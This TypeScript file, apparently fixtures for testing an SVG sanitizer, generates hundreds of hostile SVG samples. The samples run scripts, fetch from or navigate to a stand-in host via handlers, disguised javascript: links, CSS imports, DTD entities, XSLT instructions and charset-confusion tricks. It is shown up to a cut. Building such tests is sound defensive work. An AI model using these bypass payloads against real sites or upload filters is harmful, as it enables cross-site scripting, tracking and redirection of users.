/** Actions of a user that could make a file act. */
type Gesture = 'click' | 'hover' | 'enter' | 'press'

/** A file that does something when it is opened, or touched: runs a script, asks the network, or goes elsewhere. */
export interface Vector {
  kind: string
  name: string
  bytes: Buffer
  gesture?: Gesture
}

/** The address that everything tries to reach; only a test would answer there. */
export const ELSEWHERE = 'http://elsewhere.test/'

const NAMESPACES = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
const XHTML = 'http://www.w3.org/1999/xhtml'
/** A script that tells the address that it ran. */
const ACT = `new Image().src='${ELSEWHERE}ran'`
/** Where what is clicked goes. */
const GOES = `${ELSEWHERE}went`
const BOX = 'x="0" y="0" width="400" height="400" fill="#e07a5f"'
const RECT = `<rect ${BOX}/>`

const svg = (body: string, attributes = ''): string =>
  `<svg ${NAMESPACES} width="400" height="400" viewBox="0 0 400 400"${attributes}>${body}</svg>`

type Made = Record<string, string | { text: string | Buffer; gesture?: Gesture }>

const kind = (name: string, made: Made): Vector[] =>
  Object.entries(made).map(([each, content]) => {
    const { text, gesture } = typeof content === 'string' ? { text: content, gesture: undefined } : content
    return { kind: name, name: each, bytes: Buffer.isBuffer(text) ? text : Buffer.from(text), gesture }
  })

const on = (gesture: Gesture, text: string | Buffer): { text: string | Buffer; gesture: Gesture } => ({ text, gesture })

/** The same thing in several wrappings, each named. */
const wrapped = (
  what: string,
  text: string,
  wrappings: Readonly<Record<string, (text: string) => string>>,
): Record<string, string> =>
  Object.fromEntries(Object.entries(wrappings).map(([how, wrap]) => [`${what}, ${how}`, wrap(text)]))

const PLACES: Readonly<Record<string, (text: string) => string>> = {
  'by itself': text => svg(RECT + text),
  'in a group': text => svg(`<g>${text}</g>${RECT}`),
  'in definitions': text => svg(`<defs>${text}</defs>${RECT}`),
  'in a symbol': text => svg(`<symbol id="a">${text}</symbol>${RECT}`),
  'in a pattern': text => svg(`<pattern id="a">${text}</pattern>${RECT}`),
  'in metadata': text => svg(`<metadata>${text}</metadata>${RECT}`),
  'in a shape': text => svg(`<rect ${BOX}>${text}</rect>`),
  'in a title': text => svg(`<title>${text}</title>${RECT}`),
  'in an element of another language': text => svg(`<x:y xmlns:x="urn:x">${text}</x:y>${RECT}`),
  'in a foreign object': text => svg(`<foreignObject width="9" height="9">${text}</foreignObject>${RECT}`),
  'in a switch': text => svg(`<switch>${text}</switch>${RECT}`),
  'in a picture within': text => svg(`<svg>${text}</svg>${RECT}`),
}

const SCRIPTS: Made = {
  ...wrapped('a script', `<script>${ACT}</script>`, PLACES),
  'a script in character data': svg(`<script><![CDATA[${ACT}]]></script>`),
  'a script in pieces': svg(`<script>new Image().<!-- -->src='${ELSEWHERE}ran'</script>`),
  'a script in references': svg(`<script>&#110;ew Image()&#46;src='${ELSEWHERE}ran'</script>`),
  'a script of a kind': svg(`<script type="text/javascript">${ACT}</script>`),
  'a script from elsewhere': svg(`<script href="${ELSEWHERE}a.js"/>`),
  'a script from elsewhere, the old way': svg(`<script xlink:href="${ELSEWHERE}a.js"/>`),
  'a script from data': svg(`<script href="data:text/javascript,${encodeURIComponent(ACT)}"/>`),
  'a script with a prefix': `<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>${ACT}</s:script></s:svg>`,
  'a script of a web page': svg(`<h:script xmlns:h="${XHTML}">${ACT}</h:script>`),
  'a script of a web page, by default': svg(`<script xmlns="${XHTML}">${ACT}</script>`),
  'a script from elsewhere of a web page': svg(`<h:script xmlns:h="${XHTML}" src="${ELSEWHERE}a.js"/>`),
  'a script behind an instruction': svg(`<?a > ?><script>${ACT}</script>`),
  'a script behind character data': svg(`<text><![CDATA[ ]] > ]]></text><script>${ACT}</script>`),
  'a script behind a heading': `<?xml version="1.0"?><!DOCTYPE svg [<!-- ]> -->]>${svg(`<script>${ACT}</script>`)}`,
  'a script before the file breaks off': `${svg(`<script>${ACT}</script>`).slice(0, -6)}<g`,
}

const HANDLERS: Made = {
  'a handler when it is loaded': svg(RECT, ` onload="${ACT}"`),
  'a handler in single quotes': svg(RECT, ` onload='${ACT.replaceAll("'", '&quot;')}'`),
  'a handler with spaces': svg(RECT, ` onload  =\n "${ACT}"`),
  'a handler in references': svg(RECT, ` onload="&#x6e;ew Image().src=&#39;${ELSEWHERE}ran&#39;"`),
  'a handler of a picture that fails': svg(
    `<image href="data:image/png;base64,AAAA" width="9" height="9" onerror="${ACT}"/>`,
  ),
  'a handler of a picture that loads': svg(
    `<image width="9" height="9" onload="${ACT}" href="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"/>`,
  ),
  ...Object.fromEntries(
    ['animate', 'set', 'animateTransform', 'animateMotion'].flatMap(name => {
      const attributes =
        name === 'animateMotion'
          ? 'path="M0 0h9"'
          : name === 'animateTransform'
            ? 'attributeName="transform" type="rotate" from="0" to="9"'
            : 'attributeName="x" to="5"'
      return ['onbegin', 'onend'].map(handler => [
        `a handler of <${name}>, ${handler}`,
        svg(`<rect ${BOX}><${name} ${attributes} begin="0s" dur="0.01s" ${handler}="${ACT}"/></rect>`),
      ])
    }),
  ),
  'a handler of an animation that repeats': svg(
    `<rect ${BOX}><animate attributeName="x" to="5" dur="0.01s" repeatCount="2" onrepeat="${ACT}"/></rect>`,
  ),
  'a handler of an animation of the style': svg(
    `<style>@keyframes a{to{opacity:.5}}rect{animation:a .01s}</style><rect ${BOX} onanimationend="${ACT}"/>`,
  ),
  'a handler of an animation of the style, at its start': svg(
    `<style>@keyframes a{to{opacity:.5}}rect{animation:a .01s}</style><rect ${BOX} onanimationstart="${ACT}"/>`,
  ),
  'a handler of the focus': svg(`<g tabindex="0" autofocus="" onfocus="${ACT}">${RECT}</g>`),
  'a handler of the focus that comes in': svg(`<g tabindex="0" autofocus="" onfocusin="${ACT}">${RECT}</g>`),
  ...Object.fromEntries(
    ['onclick', 'onmousedown', 'onmouseup', 'onpointerdown', 'onpointerup'].map(name => [
      `a handler of the pointer, ${name}`,
      on('click', svg(`<rect ${BOX} ${name}="${ACT}"/>`)),
    ]),
  ),
  ...Object.fromEntries(
    ['onmousemove', 'onmouseover', 'onmouseenter', 'onpointerover', 'onpointerenter', 'onpointermove'].map(name => [
      `a handler of the resting pointer, ${name}`,
      on('hover', svg(`<rect ${BOX} ${name}="${ACT}"/>`)),
    ]),
  ),
  ...Object.fromEntries(
    ['onkeydown', 'onkeypress', 'onkeyup'].map(name => [
      `a handler of the keys, ${name}`,
      on('press', svg(`<g tabindex="0" ${name}="${ACT}">${RECT}</g>`)),
    ]),
  ),
}

/** `javascript:` in disguises a browser sees through. */
const RUNNING = {
  'plain': 'javascript:',
  'in capitals': 'JAVASCRIPT:',
  'behind spaces': '   javascript:',
  'behind a control character': '&#9;javascript:',
  'with a tab within': 'java&#9;script:',
  'with a line within': 'java&#10;script:',
  'in references': '&#106;&#x61;vascript:',
  'with a reference for its colon': 'javascript&#58;',
}

const linked = (address: string, attributes = ''): string => svg(`<a href="${address}"${attributes}>${RECT}</a>`)

const LINKS: Made = {
  ...Object.fromEntries(
    Object.entries(RUNNING).flatMap(([how, scheme]) => [
      [`a link that runs, ${how}`, on('click', linked(`${scheme}${ACT}`))],
      [`a link that runs, the old way, ${how}`, on('click', svg(`<a xlink:href="${scheme}${ACT}">${RECT}</a>`))],
    ]),
  ),
  'a link that runs, by keyboard': on('enter', linked(`javascript:${ACT}`)),
  'a link that runs, in words': on(
    'click',
    svg(`<a href="javascript:${ACT}"><text x="0" y="380" font-size="900">M</text></a>`),
  ),
  'a link elsewhere': on('click', linked(GOES)),
  'a link elsewhere, by keyboard': on('enter', linked(GOES)),
  'a link elsewhere, the old way': on('click', svg(`<a xlink:href="${GOES}">${RECT}</a>`)),
  'a link elsewhere, without its scheme': on('click', svg(`<a href="http:elsewhere.test/went">${RECT}</a>`)),
  'a link elsewhere, slashes the other way': on('click', linked('http:\\\\elsewhere.test\\went')),
  'a link elsewhere, with a tab within': on('click', linked('ht&#9;tp://elsewhere.test/went')),
  'a link elsewhere, in an entity': on('click', `<!DOCTYPE svg [<!ENTITY a "${GOES}">]>${linked('&a;')}`),
  'a link elsewhere that opens': on('click', linked(GOES, ' target="_blank"')),
  'a link that tells of it': on('click', linked('#a', ` ping="${ELSEWHERE}told"`)),
  'a link elsewhere of another prefix': on(
    'click',
    svg(`<a x:href="${GOES}" xmlns:x="http://www.w3.org/1999/xlink">${RECT}</a>`),
  ),
  'a link elsewhere within a use': on(
    'click',
    svg(`<defs><a id="a" href="${GOES}">${RECT}</a></defs><use href="#a"/>`),
  ),
  'a link elsewhere in a prefix': on(
    'click',
    svg(`<s:a xmlns:s="http://www.w3.org/2000/svg" href="${GOES}">${RECT}</s:a>`),
  ),
  'a link of a web page': on(
    'click',
    svg(
      `<foreignObject width="400" height="400"><a xmlns="${XHTML}" href="${GOES}" style="position:absolute;inset:0">a</a></foreignObject>`,
    ),
  ),
}

const html = (body: string): string =>
  `<foreignObject width="400" height="400"><div xmlns="${XHTML}">${body}</div></foreignObject>`

const PAGES: Readonly<Record<string, string>> = {
  'a page': `<iframe src="${ELSEWHERE}a"/>`,
  'a page of its own': `<iframe srcdoc="&lt;img src='${ELSEWHERE}a'>"/>`,
  'an object': `<object data="${ELSEWHERE}a"/>`,
  'an embedded thing': `<embed src="${ELSEWHERE}a"/>`,
  'a picture': `<img src="${ELSEWHERE}a" alt=""/>`,
  'a picture of several': `<img srcset="${ELSEWHERE}a 1x" alt=""/>`,
  'a picture that fails': `<img src="data:," alt="" onerror="${ACT}"/>`,
  'a sound': `<audio src="${ELSEWHERE}a" preload="auto"/>`,
  'a video': `<video src="${ELSEWHERE}a" preload="auto"/>`,
  'the picture before a video': `<video poster="${ELSEWHERE}a"/>`,
  'a style sheet': `<link rel="stylesheet" href="${ELSEWHERE}a"/>`,
  'something fetched before': `<link rel="preload" as="image" href="${ELSEWHERE}a"/>`,
  'a style': `<style>@import '${ELSEWHERE}a';</style>`,
  'a button that is a picture': `<input type="image" src="${ELSEWHERE}a" alt=""/>`,
  'a background': `<p style="background:url(${ELSEWHERE}a)">a</p>`,
  'something that opens': `<details open="" ontoggle="${ACT}"><summary>a</summary></details>`,
}

const FOREIGN: Made = {
  ...Object.fromEntries(Object.entries(PAGES).map(([name, body]) => [`${name} of a web page`, svg(html(body))])),
  'a picture that a script makes': svg(`<i:img xmlns:i="${XHTML}" src="${ELSEWHERE}a" alt=""/>`),
  'a style sheet outside of a foreign object': svg(
    `<h:link xmlns:h="${XHTML}" rel="stylesheet" href="${ELSEWHERE}a"/>`,
  ),
  'a style outside of a foreign object': svg(`<h:style xmlns:h="${XHTML}">@import '${ELSEWHERE}a';</h:style>`),
  'a foreign object in a use': svg(`<defs><g id="a">${html(`<img src="${ELSEWHERE}a" alt=""/>`)}</g></defs>`),
  'a refresh': svg(`<h:meta xmlns:h="${XHTML}" http-equiv="refresh" content="0;url=${GOES}"/>`),
}

const REFERENCES: Made = {
  'a picture': svg(`<image width="9" height="9" href="${ELSEWHERE}a.png"/>`),
  'a picture, the old way': svg(`<image width="9" height="9" xlink:href="${ELSEWHERE}a.png"/>`),
  'a picture without scheme': svg('<image width="9" height="9" href="http:elsewhere.test/a.png"/>'),
  'a picture behind spaces': svg(`<image width="9" height="9" href="  ${ELSEWHERE}a.png"/>`),
  'a picture with a line within': svg('<image width="9" height="9" href="http://else&#10;where.test/a.png"/>'),
  'a picture in capitals': svg('<image width="9" height="9" href="HTTP://ELSEWHERE.TEST/a.png"/>'),
  'a picture in definitions that are used': svg(
    `<defs><image id="a" width="9" height="9" href="${ELSEWHERE}a.png"/></defs><use href="#a"/>`,
  ),
  'a picture of another prefix': svg(
    `<image xmlns:x="http://www.w3.org/1999/xlink" width="9" height="9" x:href="${ELSEWHERE}a.png"/>`,
  ),
  'a picture in an entity': `<!DOCTYPE svg [<!ENTITY a "${ELSEWHERE}a.png">]>${svg('<image width="9" height="9" href="&a;"/>')}`,
  'a picture of an effect': svg(
    `<filter id="a"><feImage href="${ELSEWHERE}a.png"/></filter><rect ${BOX} filter="url(#a)"/>`,
  ),
  'a picture of an effect, the old way': svg(
    `<filter id="a"><feImage xlink:href="${ELSEWHERE}a.png"/></filter><rect ${BOX} filter="url(#a)"/>`,
  ),
  ...Object.fromEntries(
    ['filter', 'mask', 'clip-path'].flatMap(name => [
      [`a ${name} by attribute`, svg(`<rect ${BOX} ${name}="url(${ELSEWHERE}a.svg#a)"/>`)],
      [`a ${name} by attribute, quoted`, svg(`<rect ${BOX} ${name}="url('${ELSEWHERE}a.svg#a')"/>`)],
      [`a ${name} by attribute, in capitals`, svg(`<rect ${BOX} ${name}="URL(${ELSEWHERE}a.svg#a)"/>`)],
      [`a ${name} by attribute, escaped`, svg(`<rect ${BOX} ${name}="u\\72 l(${ELSEWHERE}a.svg#a)"/>`)],
    ]),
  ),
  'a pointer by attribute': on('hover', svg(`<rect ${BOX} cursor="url(${ELSEWHERE}a.cur), auto"/>`)),
}

/** Things CSS can say that fetch, to stand in a rule of the root. */
const FETCHING: Readonly<Record<string, string>> = {
  'a background': `background-image: url(${ELSEWHERE}a)`,
  'a background, quoted': `background-image: url("${ELSEWHERE}a")`,
  'a background among others': `background: none, url(${ELSEWHERE}a) 0 0`,
  'a background in capitals': `BACKGROUND-IMAGE: URL(${ELSEWHERE}a)`,
  'a background with its name escaped': `background-image: u\\72 l(${ELSEWHERE}a)`,
  'a background with its property escaped': `b\\61 ckground-image: url(${ELSEWHERE}a)`,
  'a background with its address escaped': 'background-image: url(\\68 ttp://elsewhere.test/a)',
  'a background with a comment': `background-image:/* a */url(${ELSEWHERE}a)`,
  'a background that is important': `background-image: url(${ELSEWHERE}a) !important`,
  'a set of pictures': `background-image: image-set("${ELSEWHERE}a" 1x)`,
  'a set of pictures, the old way': `background-image: -webkit-image-set(url(${ELSEWHERE}a) 1x)`,
  'a set of pictures, its name escaped': `background-image: i\\6d age-set("${ELSEWHERE}a" 1x)`,
  'a set of pictures of a kind': `background-image: image-set("${ELSEWHERE}a" type("image/png") 1x)`,
  'pictures that cross': `background-image: -webkit-cross-fade(url(${ELSEWHERE}a), url(${ELSEWHERE}b), 50%)`,
  'a property of its own': `--a: url(${ELSEWHERE}a); background-image: var(--a)`,
  'a property of its own, in two steps': `--a: url(${ELSEWHERE}a); --b: var(--a); background-image: var(--b)`,
  'a property of its own in a set': `--a: "${ELSEWHERE}a"; background-image: image-set(var(--a) 1x)`,
  'a property of its own that is a set': `--a: image-set("${ELSEWHERE}a" 1x); background-image: var(--a)`,
  'a fallback': `background-image: var(--none, url(${ELSEWHERE}a))`,
  'a fallback in a set': `background-image: image-set(var(--none, "${ELSEWHERE}a") 1x)`,
  'a mask': `mask-image: url(${ELSEWHERE}a)`,
  'a mask, the old way': `-webkit-mask-image: url(${ELSEWHERE}a)`,
  'a border': `border: 9px solid; border-image: url(${ELSEWHERE}a) 1`,
  'an effect': `filter: url(${ELSEWHERE}a.svg#a)`,
  'a path to cut with': `clip-path: url(${ELSEWHERE}a.svg#a)`,
  'a broken declaration before it': `fill: ; : red; background-image: url(${ELSEWHERE}a)`,
  'a bracket before it': `x: {a:b}; background-image: url(${ELSEWHERE}a)`,
  'brackets before it': `x: [(a)]; background-image: url(${ELSEWHERE}a)`,
  'text before it': `x: "a;b"; background-image: url(${ELSEWHERE}a)`,
  'marks before it': `*x: 1; background-image: url(${ELSEWHERE}a)`,
}

const sheet = (css: string): string => svg(`<style>${css.replaceAll('&', '&amp;')}</style>${RECT}`)

const SHEETS: Made = {
  ...Object.fromEntries(Object.entries(FETCHING).map(([name, css]) => [name, sheet(`svg { ${css} }`)])),
  'an import': sheet(`@import url(${ELSEWHERE}a.css);`),
  'an import of text': sheet(`@import "${ELSEWHERE}a.css";`),
  'an import in capitals': sheet(`@IMPORT "${ELSEWHERE}a.css";`),
  'an import with its name escaped': sheet(`@\\69 mport "${ELSEWHERE}a.css";`),
  'an import of a layer': sheet(`@import "${ELSEWHERE}a.css" layer(a);`),
  'an import never closed': sheet(`@import "${ELSEWHERE}a.css`),
  'an import behind a comment': sheet(`/* a */@import/**/"${ELSEWHERE}a.css";`),
  'an import in character data': svg(`<style><![CDATA[@import "${ELSEWHERE}a.css";]]></style>`),
  'an import in pieces': svg(`<style>@im<!-- -->port "${ELSEWHERE}a.css";</style>`),
  'an import in references': svg(`<style>&#64;import "${ELSEWHERE}a.css";</style>`),
  'an import in an entity': `<!DOCTYPE svg [<!ENTITY a "@import '${ELSEWHERE}a.css';">]>${svg('<style>&a;</style>')}`,
  'a font': svg(
    `<style>@font-face{font-family:a;src:url(${ELSEWHERE}a.woff)}text{font-family:a}</style><text y="99">a</text>`,
  ),
  'a font, quoted': svg(
    `<style>@font-face{font-family:a;src:url("${ELSEWHERE}a.woff") format("woff")}text{font-family:a}</style><text y="99">a</text>`,
  ),
  'under a condition': sheet(`@media all { svg { background-image: url(${ELSEWHERE}a) } }`),
  'under conditions': sheet(`@supports (fill: red) { @media screen { svg { background-image: url(${ELSEWHERE}a) } } }`),
  'in a layer': sheet(`@layer a { svg { background-image: url(${ELSEWHERE}a) } }`),
  'in a rule within a rule': sheet(`svg { & { background-image: url(${ELSEWHERE}a) } }`),
  'behind a broken rule': sheet(`a { b: c }} x { } svg { background-image: url(${ELSEWHERE}a) }`),
  'behind an unknown rule': sheet(`@x { a { b: c } } svg { background-image: url(${ELSEWHERE}a) }`),
  'behind a broken selector': sheet(`!!! { } svg { background-image: url(${ELSEWHERE}a) }`),
  'behind a mark of old pages': svg(
    `<style>&lt;!-- svg { background-image: url(${ELSEWHERE}a) } --&gt;</style>${RECT}`,
  ),
  'of a property with a first value': svg(
    `<style>@property --a { syntax: "&lt;image>"; inherits: false; initial-value: url(${ELSEWHERE}a) } ` +
      `svg { background-image: var(--a) }</style>${RECT}`,
  ),
  'of a property with text for its first value': sheet(
    `@property --a { syntax: "*"; inherits: false; initial-value: "${ELSEWHERE}a" } svg { background-image: image-set(var(--a) 1x) }`,
  ),
  'of what is written before a shape': svg(
    `<style>svg::before { content: url(${ELSEWHERE}a) } svg { background: url(${ELSEWHERE}b) }</style>`,
  ),
  'a pointer': on('hover', sheet(`rect { cursor: url(${ELSEWHERE}a), auto }`)),
  'a pointer of a set': on('hover', sheet(`rect { cursor: image-set("${ELSEWHERE}a" 1x), auto }`)),
  'while it is pointed at': on('hover', sheet(`rect:hover { filter: url(${ELSEWHERE}a.svg#a) }`)),
  'a style sheet of a kind': svg(`<style type="text/css">svg{background:url(${ELSEWHERE}a)}</style>`),
  'a style sheet for a medium': svg(`<style media="screen">svg{background:url(${ELSEWHERE}a)}</style>`),
}

const styled = (css: string): string => svg(RECT, ` style="${css.replaceAll('"', '&quot;')}"`)

const STYLES: Made = {
  ...Object.fromEntries(Object.entries(FETCHING).map(([name, css]) => [name, styled(css)])),
  'never closed': styled(`background-image: url(${ELSEWHERE}a`),
  'in single quotes': svg(RECT, ` style='background-image:url(${ELSEWHERE}a)'`),
  'in an entity': `<!DOCTYPE svg [<!ENTITY a "background-image:url(${ELSEWHERE}a)">]>${svg(RECT, ' style="&a;"')}`,
  'in references': svg(RECT, ` style="background-image:&#117;rl(${ELSEWHERE}a)"`),
  'of a shape': svg(`<rect ${BOX} style="mask: url(${ELSEWHERE}a.svg#a)"/>`),
  'of a pointer on a shape': on('hover', svg(`<rect ${BOX} style="cursor: url(${ELSEWHERE}a), auto"/>`)),
}

const ANIMATIONS: Made = {
  'a picture that is set': svg(
    `<image width="9" height="9"><set attributeName="href" to="${ELSEWHERE}a.png"/></image>`,
  ),
  'a picture that is set, the old way': svg(
    `<image width="9" height="9"><set attributeName="xlink:href" to="${ELSEWHERE}a.png"/></image>`,
  ),
  'a picture that is animated': svg(
    `<image width="9" height="9"><animate attributeName="href" values="${ELSEWHERE}a.png;${ELSEWHERE}b.png" dur="1s"/></image>`,
  ),
  'a picture that is animated from': svg(
    `<image width="9" height="9"><animate attributeName="href" from="${ELSEWHERE}a.png" to="#a" dur="1s"/></image>`,
  ),
  'a picture set from afar': svg(
    `<image id="p" width="9" height="9"/><set href="#p" attributeName="href" to="${ELSEWHERE}a.png"/>`,
  ),
  'a picture of an effect that is set': svg(
    `<filter id="a"><feImage><set attributeName="href" to="${ELSEWHERE}a.png"/></feImage></filter><rect ${BOX} filter="url(#a)"/>`,
  ),
  'a link that is set': on('click', svg(`<a>${RECT}<set attributeName="href" to="${GOES}"/></a>`)),
  'a link that is set, the old way': on('click', svg(`<a>${RECT}<set attributeName="xlink:href" to="${GOES}"/></a>`)),
  'a link that is animated': on(
    'click',
    svg(`<a>${RECT}<animate attributeName="href" values="${GOES};${GOES}" dur="99s"/></a>`),
  ),
  'a link that changes': on('click', svg(`<a href="#a">${RECT}<set attributeName="href" to="${GOES}"/></a>`)),
  ...Object.fromEntries(
    ['filter', 'mask', 'clip-path'].map(name => [
      `a ${name} that is set`,
      svg(`<rect ${BOX}><set attributeName="${name}" to="url(${ELSEWHERE}a.svg#a)"/></rect>`),
    ]),
  ),
  ...Object.fromEntries(
    ['filter', 'mask', 'clip-path'].map(name => [
      `a ${name} that is animated`,
      svg(`<rect ${BOX}><animate attributeName="${name}" values="url(${ELSEWHERE}a.svg#a);none" dur="9s"/></rect>`),
    ]),
  ),
  'a pointer that is set': on(
    'hover',
    svg(`<rect ${BOX}><set attributeName="cursor" to="url(${ELSEWHERE}a), auto"/></rect>`),
  ),
}

const doctyped = (subset: string, file: string): string => `<?xml version="1.0"?><!DOCTYPE svg [${subset}]>${file}`

const DOCTYPES: Made = {
  'a handler by default': doctyped(`<!ATTLIST svg onload CDATA "${ACT}">`, svg(RECT)),
  'a handler that is fixed': doctyped(`<!ATTLIST svg onload CDATA #FIXED "${ACT}">`, svg(RECT)),
  'a handler in single quotes': doctyped(`<!ATTLIST svg onload CDATA '${ACT.replaceAll("'", '"')}'>`, svg(RECT)),
  'a handler after a namespace': doctyped(`<!ATTLIST svg xmlns:x CDATA "urn:x" onload CDATA "${ACT}">`, svg(RECT)),
  'a handler in references, by default': doctyped(
    `<!ATTLIST svg onload CDATA "&#110;ew Image().src='${ELSEWHERE}ran'">`,
    svg(RECT),
  ),
  'a handler in several lines': doctyped(`<!ATTLIST\n svg\n onload\n CDATA\n "${ACT}"\n>`, svg(RECT)),
  'a picture by default': doctyped(
    `<!ATTLIST image href CDATA "${ELSEWHERE}a.png">`,
    svg('<image width="9" height="9"/>'),
  ),
  'a picture by default, the old way': doctyped(
    `<!ATTLIST image xlink:href CDATA "${ELSEWHERE}a.png">`,
    svg('<image width="9" height="9"/>'),
  ),
  'a style by default': doctyped(`<!ATTLIST svg style CDATA "background:url(${ELSEWHERE}a)">`, svg(RECT)),
  'a link by default': on('click', doctyped(`<!ATTLIST a href CDATA "${GOES}">`, svg(`<a>${RECT}</a>`))),
  'an effect by default': doctyped(`<!ATTLIST rect filter CDATA "url(${ELSEWHERE}a.svg#a)">`, svg(RECT)),
  'a namespace by default': doctyped(
    `<!ATTLIST q:img xmlns:q CDATA "${XHTML}">`,
    svg(`<q:img src="${ELSEWHERE}a" alt=""/>`),
  ),
  'a namespace that is fixed': doctyped(
    `<!ATTLIST img xmlns CDATA #FIXED "${XHTML}">`,
    svg(`<img src="${ELSEWHERE}a" alt=""/>`),
  ),
  'a namespace declared twice': doctyped(
    `<!ATTLIST q:img xmlns:q CDATA "${XHTML}"><!ATTLIST q:img xmlns:q CDATA "urn:x">`,
    svg(`<q:img src="${ELSEWHERE}a" alt=""/>`),
  ),
  'a namespace of the old links': doctyped(
    '<!ATTLIST image l:href CDATA #IMPLIED xmlns:l CDATA "http://www.w3.org/1999/xlink">',
    svg(`<image width="9" height="9" l:href="${ELSEWHERE}a.png"/>`),
  ),
  'a namespace on the root': doctyped(
    `<!ATTLIST svg xmlns:q CDATA "${XHTML}">`,
    svg(`<q:link rel="stylesheet" href="${ELSEWHERE}a"/>`),
  ),
  'markup in an entity': doctyped(`<!ENTITY a "<script>${ACT}</script>">`, svg(`<g>&a;</g>`)),
  'markup in an entity, in references': doctyped(`<!ENTITY a "&#60;script>${ACT}&#60;/script>">`, svg('<g>&a;</g>')),
  'markup in an entity of an entity': doctyped(
    `<!ENTITY b "<script>${ACT}</script>"><!ENTITY a "&b;">`,
    svg('<g>&a;</g>'),
  ),
  'a link in an entity': on('click', doctyped(`<!ENTITY a "javascript">`, svg(`<a href="&a;:${ACT}">${RECT}</a>`))),
  'a handler in an entity': doctyped(`<!ENTITY a "${ACT}">`, svg(RECT, ' onload="&a;"')),
  'an entity declared twice': doctyped(
    `<!ENTITY a "${ELSEWHERE}a.png"><!ENTITY a "#a">`,
    svg('<image width="9" height="9" href="&a;"/>'),
  ),
}

const STYLESHEET = `<?xml-stylesheet href="${ELSEWHERE}a.css"?>`
/** A transformation that writes a script. */
const TRANSFORM =
  '<xsl:stylesheet id="t" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">' +
  `<html xmlns="${XHTML}"><body><script>${ACT}</script></body></html></xsl:template></xsl:stylesheet>`

const INSTRUCTIONS: Made = {
  'a linked sheet': `${STYLESHEET}${svg(RECT)}`,
  'a linked sheet of a kind': `<?xml-stylesheet type="text/css" href="${ELSEWHERE}a.css"?>${svg(RECT)}`,
  'a linked sheet in single quotes': `<?xml-stylesheet href='${ELSEWHERE}a.css'?>${svg(RECT)}`,
  'a linked sheet in references': `<?xml-stylesheet href="&#104;ttp://elsewhere.test/a.css"?>${svg(RECT)}`,
  'a linked sheet in several lines': `<?xml-stylesheet\n\ttype="text/css"\n\thref="${ELSEWHERE}a.css"\n?>${svg(RECT)}`,
  'a linked sheet for a medium': `<?xml-stylesheet media="screen" href="${ELSEWHERE}a.css"?>${svg(RECT)}`,
  'a linked sheet behind a declaration': `<?xml version="1.0"?>\n${STYLESHEET}${svg(RECT)}`,
  'a linked sheet behind a comment': `<!-- a -->${STYLESHEET}${svg(RECT)}`,
  'a linked sheet behind another instruction': `<?a b?>${STYLESHEET}${svg(RECT)}`,
  'a linked sheet behind a heading': `<!DOCTYPE svg>${STYLESHEET}${svg(RECT)}`,
  'two linked sheets': `<?xml-stylesheet href="#a"?>${STYLESHEET}${svg(RECT)}`,
  'a linked sheet from data': `<?xml-stylesheet href="data:text/css,svg{background:url(${ELSEWHERE}a)}"?>${svg(RECT)}`,
  'a linked sheet with a bracket within': `<?xml-stylesheet title=">" href="${ELSEWHERE}a.css"?>${svg(RECT)}`,
  'a transformation':
    '<?xml-stylesheet type="text/xsl" href="data:text/xml;base64,' +
    `${Buffer.from(TRANSFORM).toString('base64')}"?>${svg(RECT)}`,
  'a transformation within': `<?xml-stylesheet type="text/xsl" href="#t"?>${svg(TRANSFORM)}`,
}

/** A script hidden in an encoding: bytes that are text to who reads them otherwise. */
const hidden = (encoding: string, before: number[], after: number[]): Buffer =>
  Buffer.concat([
    Buffer.from(`<?xml version="1.0" encoding="${encoding}"?>${svg('', '').replace('</svg>', '')}<desc>`, 'latin1'),
    Buffer.from(before),
    Buffer.from(`<script>${ACT}</script>`, 'latin1'),
    Buffer.from(after),
    Buffer.from(`</desc>${RECT}</svg>`, 'latin1'),
  ])

const utf16 = (text: string, little: boolean, mark: boolean): Buffer => {
  const bytes = Buffer.from((mark ? '\uFEFF' : '') + text, 'utf16le')
  return little ? bytes : bytes.swap16()
}

const ENCODED = `<?xml version="1.0" encoding="UTF-16"?>${svg(`<script>${ACT}</script>`)}`

/** A handler between quotes that only count in another encoding: the last byte of a letter of two is one. */
const shifted = (encoding: string, lead: number[]): Buffer =>
  Buffer.concat([
    Buffer.from(`<?xml version="1.0" encoding="${encoding}"?><svg ${NAMESPACES} class="`, 'latin1'),
    Buffer.from(lead),
    Buffer.from(`" onload="${ACT}" id="x">${RECT}</svg>`, 'latin1'),
  ])

/**
 * A script in what looks like a comment to who reads bytes one by one: the first of the brackets that seem to end the character data
 * is half a letter of two bytes.
 */
const bracketed = (encoding: string, letter: number): Buffer =>
  Buffer.concat([
    Buffer.from(
      `<?xml version="1.0" encoding="${encoding}"?>${svg('').replace('</svg>', '')}<desc><![CDATA[`,
      'latin1',
    ),
    Buffer.from([letter]),
    Buffer.from(`]]></desc><!-- ]]></desc><script>${ACT}</script><!-- -->${RECT}</svg>`, 'latin1'),
  ])

const ESCAPED_TEXT = [0x1b, 0x24, 0x42]
const PLAIN_TEXT = [0x1b, 0x28, 0x42]

const encodings = (): Vector[] =>
  kind('encodings', {
    'a script in UTF-16, little end first': { text: utf16(ENCODED, true, true) },
    'a script in UTF-16, big end first': { text: utf16(ENCODED, false, true) },
    ...Object.fromEntries(
      [
        'gbk',
        'GB2312',
        'gb18030',
        'Big5',
        'Shift_JIS',
        'EUC-JP',
        'EUC-KR',
        'ISO-2022-JP',
        'windows-1252',
        'ISO-8859-1',
        'KOI8-R',
        'UTF-8',
        'us-ascii',
        'windows-949',
      ].map(encoding => [`a script in ${encoding}`, { text: hidden(encoding, [], []) }]),
    ),
    ...Object.fromEntries(
      (
        [
          ['gbk', 0x81],
          ['GB2312', 0x81],
          ['gb18030', 0x81],
          ['Big5', 0xa4],
          ['Shift_JIS', 0x83],
          ['windows-31j', 0x83],
        ] as const
      ).map(([encoding, letter]) => [
        `a script in what looks like a comment in ${encoding}`,
        { text: bracketed(encoding, letter) },
      ]),
    ),
    ...Object.fromEntries(
      ['ISO-2022-JP', 'csISO2022JP'].map(encoding => [
        `a handler behind letters of two bytes in ${encoding}`,
        { text: shifted(encoding, [...ESCAPED_TEXT, 0x3c, 0x3c, ...PLAIN_TEXT]) },
      ]),
    ),
    ...Object.fromEntries(
      ['ISO-2022-JP', 'csISO2022JP'].map(encoding => [
